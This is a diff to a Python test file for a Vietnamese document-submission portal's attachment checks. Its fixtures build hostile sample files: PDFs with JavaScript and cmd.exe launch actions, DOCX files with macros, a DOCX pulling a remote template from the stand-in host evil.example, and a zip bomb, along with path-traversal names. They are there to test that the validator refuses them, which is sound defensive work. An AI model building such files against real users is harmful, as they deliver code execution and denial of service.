@@ -5,12 +5,14 @@ from __future__ import annotations
 import hashlib
 import io
 import zipfile
+from datetime import timedelta
 
 import pytest
 from sqlmodel import select
 
 from models.errors import Refused
 from models.facts import Attachment, Submission
+from models.file_kinds import why_not
 from models.settings import Home
 from portal.attachments import harmless_name, kept
 from tests.portal.people import FIGURES, KEY, Portal, seal_in, token_in
@@ -96,6 +98,102 @@ def test_names_lose_whatever_could_be_an_order(name: str, kept_as: str) -> None:
     assert harmless_name(name) == kept_as
 
 
+def locked(content: bytes) -> bytes:
+    """The package with the mark of a password on its first part."""
+    at = content.index(b"PK\x01\x02") + 8
+    return content[:at] + bytes([content[at] | 1]) + content[at + 1 :]
+
+
+def fetching() -> bytes:
+    relation = (
+        '<Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
+        'Target="https://evil.example/mau.dotm" TargetMode="External"/>'
+    )
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as archive:
+        archive.writestr("word/document.xml", "<x/>")
+        archive.writestr("word/_rels/settings.xml.rels", relation)
+    return out.getvalue()
+
+
+def swelling() -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("word/document.xml", "<x/>")
+        for n in range(31):
+            archive.writestr(f"word/media/{n}.bin", b"0" * (10 * 1024 * 1024))
+    return out.getvalue()
+
+
+OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
+
+
+@pytest.mark.parametrize(
+    ("kind", "content", "said"),
+    [
+        ("pdf", PDF + b"trailer <</Root 1 0 R /Encrypt 5 0 R>>", "mật khẩu"),
+        ("pdf", PDF + b"<</S /JavaScript /JS (app.alert(1))>>", "mã lệnh"),
+        ("pdf", PDF + b"<</S /Launch /F (cmd.exe)>>", "mã lệnh"),
+        ("docx", OLE + "EncryptedPackage".encode("utf-16-le"), "mật khẩu"),
+        ("docx", OLE + b"an old .doc", "không đúng loại DOCX"),
+        ("docx", locked(package("word/document.xml")), "mật khẩu"),
+        ("docx", package("word/document.xml", "word/vbaProject.bin"), "macro"),
+        ("xlsx", package("xl/workbook.xml", "xl/activeX/activeX1.xml"), "macro"),
+        ("docx", fetching(), "tệp mẫu ở nơi khác"),
+        ("docx", swelling(), "nén bất thường"),
+        ("docx", package("word/document.xml"), ""),
+        ("pdf", PDF + b"(/Encryption is a word)", ""),
+        ("pdf", PDF + b"2 0 obj <</Length 9>> stream\n\x9c/JS \x01/Launch \nendstream endobj", ""),
+        (
+            "pdf",
+            PDF + b"stream\r\nx\nendstream 3 0 obj <</S /JavaScript>> stream\ny endstream",
+            "mã lệnh",
+        ),
+        ("pdf", PDF + b"stream\n" * 200_000 + b"<</S /JavaScript>>", "mã lệnh"),
+    ],
+)
+def test_what_no_filed_document_may_hold_is_named(kind: str, content: bytes, said: str) -> None:
+    why = why_not(kind, content)
+    assert said in why if said else why == ""
+
+
+def test_several_files_are_kept_and_the_same_one_chosen_twice_is_one(portal: Portal) -> None:
+    client = portal.unit()
+    page = client.get(FORM).text
+    data = {"seal": seal_in(page), "token": token_in(page), "kind": "figures", **FIGURES}
+    other = PDF + b"2"
+    files = [
+        ("attachment", (name, c, "application/pdf")) for name, c in (("a.pdf", PDF), ("b.pdf", other), ("a.pdf", PDF))
+    ]
+    receipt = client.get(client.post(FORM, data=data, files=files).headers["location"]).text
+    assert "a.pdf" in receipt
+    assert "b.pdf" in receipt
+    with portal.session() as session:
+        assert sorted(row.name for row in session.exec(select(Attachment))) == ["a.pdf", "b.pdf"]
+
+
+@pytest.mark.parametrize("many", [11, 20])
+def test_too_many_files_are_refused_and_nothing_is_kept(portal: Portal, many: int) -> None:
+    client = portal.unit()
+    page = client.get(FORM).text
+    data = {"seal": seal_in(page), "token": token_in(page), "kind": "figures", **FIGURES}
+    files = [("attachment", (f"{n}.pdf", PDF + bytes([n]), "application/pdf")) for n in range(many)]
+    answer = client.post(FORM, data=data, files=files)
+    assert answer.status_code == 422
+    assert "không quá 10 tệp" in answer.text
+
+
+def test_no_file_hangs_on_what_went_by_a_secret_channel(portal: Portal) -> None:
+    client = portal.unit()
+    page = client.get(FORM).text
+    data = {"seal": seal_in(page), "token": "t", "kind": "offline", "paper_number": "07/BC", "paper_on": "20/11/2026"}
+    answer = client.post(FORM, data=data, files={"attachment": ("a.pdf", PDF, "application/pdf")})
+    assert answer.status_code == 422
+    assert "không đính kèm tệp" in answer.text
+    with portal.session() as session:
+        assert session.exec(select(Submission)).first() is None
+
+
 @pytest.mark.parametrize("sha", ["../../secret.key", "", "A" * 64, "0" * 63, "0" * 64 + "/"])
 def test_only_a_hash_names_a_kept_file(home: Home, sha: str) -> None:
     with pytest.raises(Refused):
@@ -125,6 +223,20 @@ def test_a_body_that_hides_its_size_is_cut_off_at_the_limit(portal: Portal) -> N
 
     answer = client.post(FORM, content=endless(), headers={"content-type": "multipart/form-data; boundary=x"})
     assert answer.status_code == 413
+
+
+def test_a_page_that_was_filed_takes_no_other_file_and_says_so(portal: Portal) -> None:
+    client = portal.unit()
+    page = client.get(FORM).text
+    data = {"seal": seal_in(page), "token": token_in(page), "kind": "figures", **FIGURES}
+    assert client.post(FORM, data=data, files={"attachment": ("a.pdf", PDF, "application/pdf")}).status_code == 303
+    portal.clock.now += timedelta(minutes=1)
+    again = client.post(FORM, data=data, files={"attachment": ("quên.pdf", PDF + b"2", "application/pdf")})
+    assert again.status_code == 422
+    assert "chưa nhận thêm tệp: quên.pdf" in again.text
+    with portal.session() as session:
+        assert [row.name for row in session.exec(select(Attachment))] == ["a.pdf"]
+        assert len(session.exec(select(Submission)).all()) == 1
 
 
 def test_the_same_form_sent_twice_keeps_its_document_once(portal: Portal) -> None:
